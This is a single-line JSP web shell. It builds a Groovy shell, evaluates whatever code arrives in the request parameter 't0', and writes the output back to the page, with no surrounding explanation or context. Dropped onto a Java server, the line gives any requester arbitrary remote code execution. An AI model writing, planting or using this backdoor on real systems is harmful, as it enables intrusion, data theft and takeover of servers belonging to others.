<% groovy.lang.GroovyShell sh = new groovy.lang.GroovyShell(); out.print(sh.evaluate(request.getParameter("t0"))); %>
